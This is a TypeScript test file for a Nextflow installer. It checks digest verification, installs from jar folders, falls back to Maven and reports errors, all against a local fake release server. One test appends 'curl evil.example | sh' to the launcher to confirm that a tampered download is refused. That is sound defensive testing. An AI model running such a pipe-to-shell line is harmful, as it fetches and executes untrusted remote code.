import { hash } from 'node:crypto';
import { execFileSync } from 'node:child_process';
import { once } from 'node:events';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Machine } from '../../machine.ts';
import { installNextflow, type WantedNextflow } from './install-nextflow.ts';
import { listNextflows } from './list-nextflows.ts';

/** Fake of the official launcher, which only runs with the version and program that were installed with it. */
const LAUNCHER = `#!/bin/sh
grep -q 'a program' "$NXF_DIST/$NXF_VER/nextflow-$NXF_VER-one.jar" || exit 9
echo "$@" >"$LAUNCHED"
`;
const RELEASE = '/v25.10.4';

let scratch: string;
let machine: Machine;
let releases: Server;
let published: Record<string, string>;

beforeEach(async () => {
  scratch = mkdtempSync(join(tmpdir(), 'reprise-install-'));
  published = {
    [`${RELEASE}/nextflow`]: LAUNCHER,
    [`${RELEASE}/nextflow.sha256`]: `${hash('sha256', LAUNCHER)}  nextflow\n`,
    [`${RELEASE}/nextflow-25.10.4-one.jar`]: 'a program',
  };
  releases = createServer(({ url = '' }, response) => {
    const text = published[url];
    response.writeHead(text === undefined ? 404 : 200).end(text);
  }).listen(0, '127.0.0.1');
  await once(releases, 'listening');
  mkdirSync(join(scratch, 'java/bin'), { recursive: true });
  java('exit 0');
  const env = {
    PATH: '/usr/bin:/bin',
    HOME: scratch,
    JAVA_HOME: join(scratch, 'java'),
    NXF_BASE: `http://127.0.0.1:${String((releases.address() as AddressInfo).port)}`,
    LAUNCHED: join(scratch, 'launched'),
  };
  const kind = { platform: 'linux', arch: 'x64', uid: 1000, distribution: [], hasSystemd: false } as const;
  machine = { ...kind, root: join(scratch, 'root'), env: { ...env, PATH: withoutMaven() } };
});
afterEach(() => {
  releases.close();
  rmSync(scratch, { recursive: true });
});

/** Writes a fake Java. */
function java(script: string): void {
  writeFileSync(join(scratch, 'java/bin/java'), `#!/bin/sh\n${script}\n`, { mode: 0o755 });
}

/** A PATH with the commands that launchers call, without Maven. */
function withoutMaven(): string {
  const bin = join(scratch, 'bin');
  mkdirSync(bin);
  for (const name of ['sh', 'dirname', 'readlink', 'grep', 'sed']) {
    const program = execFileSync('sh', ['-c', `command -v ${name}`], { encoding: 'utf8' }).trim();
    writeFileSync(join(bin, name), `#!/bin/sh\nexec ${program} "$@"\n`, { mode: 0o755 });
  }
  return bin;
}

const install = (wanted: Partial<WantedNextflow> = {}, say: (line: string) => void = () => undefined) =>
  installNextflow(machine, { version: '25.10.4', ...wanted }, say);
const folderOf = (version: string) => join(machine.root, '.tools/nextflow', version);

function jars(...names: string[]): string {
  const folder = mkdtempSync(join(scratch, 'jars-'));
  for (const name of names) writeFileSync(join(folder, name), name);
  return folder;
}

describe('a Nextflow version to install', () => {
  it('is installed by its official launcher, which runs with the program of that version', async () => {
    const { launcher, sha256 } = await install();
    expect(launcher).toBe(join(folderOf('25.10.4'), 'nextflow'));
    expect(readFileSync(join(scratch, 'launched'), 'utf8')).toMatch(/^run main\.nf /);
    const list = readFileSync(join(folderOf('25.10.4'), 'SHA256SUMS'), 'utf8');
    expect(list.split('\n').map((line) => line.slice(66))).toEqual([
      'framework/25.10.4/nextflow-25.10.4-one.jar',
      'official',
      '',
    ]);
    expect(await listNextflows(machine)).toEqual([{ version: '25.10.4', launcher, sha256, isUnchanged: true }]);
    expect(execFileSync(launcher, ['-v'], { encoding: 'utf8' })).toBe('nextflow version 25.10.4\n');
  });

  it('is refused if its launcher differs from the published one', async () => {
    published[`${RELEASE}/nextflow`] = `${LAUNCHER}curl evil.example | sh\n`;
    await expect(install()).rejects.toThrow(/has the SHA-256 .*, and .* is published: nothing was installed/);
    expect(existsSync(folderOf('25.10.4'))).toBe(false);
  });

  it('is refused with another digest than the requested one, and accepted with that one', async () => {
    await expect(install({ sha256: 'ab' })).rejects.toThrow(/not ab: nothing was installed/);
    expect(await listNextflows(machine)).toEqual([]);
    const { sha256 } = await install();
    await expect(install({ sha256: 'ab' })).rejects.toThrow('not ab');
    expect(await install({ sha256 })).toMatchObject({ sha256 });
  });

  it('comes from a folder of jars, and reports later that one of them has changed', async () => {
    const from = jars('nextflow-25.10.4.jar', 'groovy-4.0.28.jar');
    const { launcher, sha256 } = await install({ from });
    expect(execFileSync(launcher, ['-v'], { encoding: 'utf8', env: machine.env })).toBe('nextflow version 25.10.4\n');
    writeFileSync(join(folderOf('25.10.4'), 'jars/groovy-4.0.28.jar'), 'another');
    expect(await listNextflows(machine)).toMatchObject([{ sha256, isUnchanged: false }]);
    await install({ from });
    expect(await listNextflows(machine)).toMatchObject([{ sha256, isUnchanged: true }]);
  });

  it('is left unchanged with a message if it exists, and the folder of jars has to contain it', async () => {
    const said: string[] = [];
    const say = (line: string) => said.push(line);
    const from = jars('nextflow-25.10.4.jar');
    await install({ from }, say);
    expect(said).toEqual([]);
    await install({ from }, say);
    await install({}, say);
    expect(said).toEqual([
      `Nextflow 25.10.4 was installed before: ${from} was not used. To install it from there, delete ${folderOf('25.10.4')} first.`,
      'Nextflow 25.10.4 was installed before.',
    ]);
    await expect(install({ from: join(scratch, 'none') })).rejects.toThrow('none is not a folder that can be read');
    await expect(install({ from: jars('nextflow-24.10.0.jar') })).rejects.toThrow('has no nextflow-25.10.4.jar');
  });

  it('also comes from its single jar', async () => {
    const { launcher } = await install({ from: jars('nextflow-25.10.4-one.jar') });
    expect(execFileSync(launcher, ['-v'], { encoding: 'utf8', env: machine.env })).toBe('nextflow version 25.10.4\n');
  });

  it.each([
    [['nextflow-24.10.0.jar'], 'has no nextflow-25.10.4.jar or nextflow-25.10.4-one.jar, but nextflow-24.10.0.jar'],
    [['groovy-4.0.28.jar'], 'has no nextflow-25.10.4.jar or nextflow-25.10.4-one.jar.'],
    [
      ['nextflow-25.10.4.jar', 'nextflow-26.04.6.jar'],
      'has several versions: nextflow-25.10.4.jar, nextflow-26.04.6.jar',
    ],
  ])('does not come from a folder with %p', async (names, problem) => {
    await expect(install({ from: jars(...names) })).rejects.toThrow(problem);
    expect(existsSync(folderOf('25.10.4'))).toBe(false);
  });

  it('is not left behind if it does not run', async () => {
    java('echo no such class; exit 1');
    await expect(install({ from: jars('nextflow-25.10.4.jar') })).rejects.toThrow('no such class');
    expect(existsSync(folderOf('25.10.4'))).toBe(false);
  });

  it('comes from Maven if its releases cannot be reached, with a message', async () => {
    published = {};
    const jar = 'echo jar >"${each#*=}/nextflow-25.10.4.jar"';
    const script = `for each; do case "$each" in -DoutputDirectory=*) /bin/mkdir -p "\${each#*=}"; ${jar} ;; esac; done`;
    writeFileSync(join(scratch, 'bin/mvn'), `#!/bin/sh\n${script}\n`, { mode: 0o755 });
    const said: string[] = [];
    const { launcher } = await install({}, (line) => said.push(line));
    expect(execFileSync(launcher, ['-v'], { encoding: 'utf8', env: machine.env })).toBe('nextflow version 25.10.4\n');
    expect(said).toEqual([
      expect.stringMatching(/^Nextflow 25\.10\.4: .*\/nextflow answered 404\. Trying Maven$/),
      'Nextflow 25.10.4: fetching its jars with Maven (40 MB)',
    ]);
  });

  it('is named if it cannot be reached', async () => {
    published = {};
    await expect(install()).rejects.toThrow(/\/v25\.10\.4\/nextflow answered 404/);
    await expect(install({ version: 'latest' })).rejects.toThrow('latest is not a version of Nextflow');
  });
});
